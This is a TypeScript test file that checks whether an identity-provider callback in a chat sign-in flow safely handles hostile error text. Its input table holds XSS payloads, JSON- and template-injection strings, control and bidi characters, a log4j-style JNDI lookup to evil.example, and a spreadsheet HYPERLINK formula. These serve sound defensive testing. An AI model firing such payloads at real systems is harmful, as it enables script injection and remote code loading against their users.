import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { attackStage, type AttackStage } from './attack-stage.js';

let stage: AttackStage;
beforeAll(async () => {
  stage = await attackStage();
});
afterAll(() => stage.close());

const SCRIPT = '<img src=x onerror=alert(1)><script>alert(1)</script>';

describe('texts of an identity provider that mean harm', () => {
  const texts: readonly [what: string, error: string, description?: string][] = [
    ['a script', SCRIPT, SCRIPT],
    ['a script that breaks out of an attribute', `"'><svg onload=alert(1)>`, `\`\${alert(1)}\``],
    ['quotes and backslashes, which Connect refuses', 'a"b\\c', '"\\"\\'],
    ['nothing but what Connect refuses', '"\\\u0000\u0001', '\u007F'],
    ['control characters', 'access\u0000denied\u001B[2J', 'a\r\nb\tc\u0085'],
    ['other alphabets and directions', 'zugriff verweigert ü 日本語', '\u202Egnirts\u202C 🦊 \uD800'],
    ['a JSON that would close ours', '"},"State":"other","Code":"x', '","Error":"'],
    ['far more than Connect takes', 'e'.repeat(2500), 'd'.repeat(2500)],
    ['a template of a log4j kind', '${jndi:ldap://evil.example/a}', '{{7*7}}<%= 7*7 %>'],
    ['a formula', '=HYPERLINK("http://evil.example")', '@SUM(1)'],
  ];
  it.each(texts)(
    '%s: Connect takes them, the block ends in its Error branch',
    async (_what, error, description) => {
      const { contactId, url, state } = await stage.askedChat();
      const customer = stage.visitor();
      await customer.start(url);
      const before = stage.now();
      const answer = await customer.callback({ state, error, error_description: description ?? '' });
      expect([answer.status, answer.location]).toEqual([303, '/done?outcome=declined']);
      const page = await customer.send('GET', answer.location ?? '');
      for (const text of [answer.rawHeaders.join('\n'), page.rawHeaders.join('\n'), page.body]) {
        expect(text).not.toMatch(/alert|evil|7\*7|jndi|denied/u);
      }
      await stage.local.until(contactId, 'Error');
      const heard = stage.received(before);
      expect(heard).toMatchObject([{ contactId, outcome: 'ok' }]);
      expect(heard[0]?.members).not.toContain('Code');
      expect(heard[0]?.members).toContain('Error');
    },
  );

  it('an error beside a code sends the error and never the code', async () => {
    const { chat, contactId, url } = await stage.askedChat();
    const customer = stage.visitor();
    await customer.start(url);
    const before = stage.now();
    await customer.callback({ ...(await chat.signIn(new URL(url))), error: 'access_denied' });
    await stage.local.until(contactId, 'Error');
    expect(stage.received(before)).toMatchObject([{ contactId, outcome: 'ok' }]);
    expect(stage.received(before)[0]?.members).not.toContain('Code');
  });

  it('a code that Connect refuses is told as such, without its text', async () => {
    const { contactId, url, state } = await stage.askedChat();
    const customer = stage.visitor();
    await customer.start(url);
    const before = stage.now();
    const answer = await customer.callback({ state, code: `${SCRIPT}"\\` });
    expect(answer.body).not.toContain('alert');
    expect(stage.received(before)).toHaveLength(1);
    await stage.local.until(contactId, 'Error');
  });
});
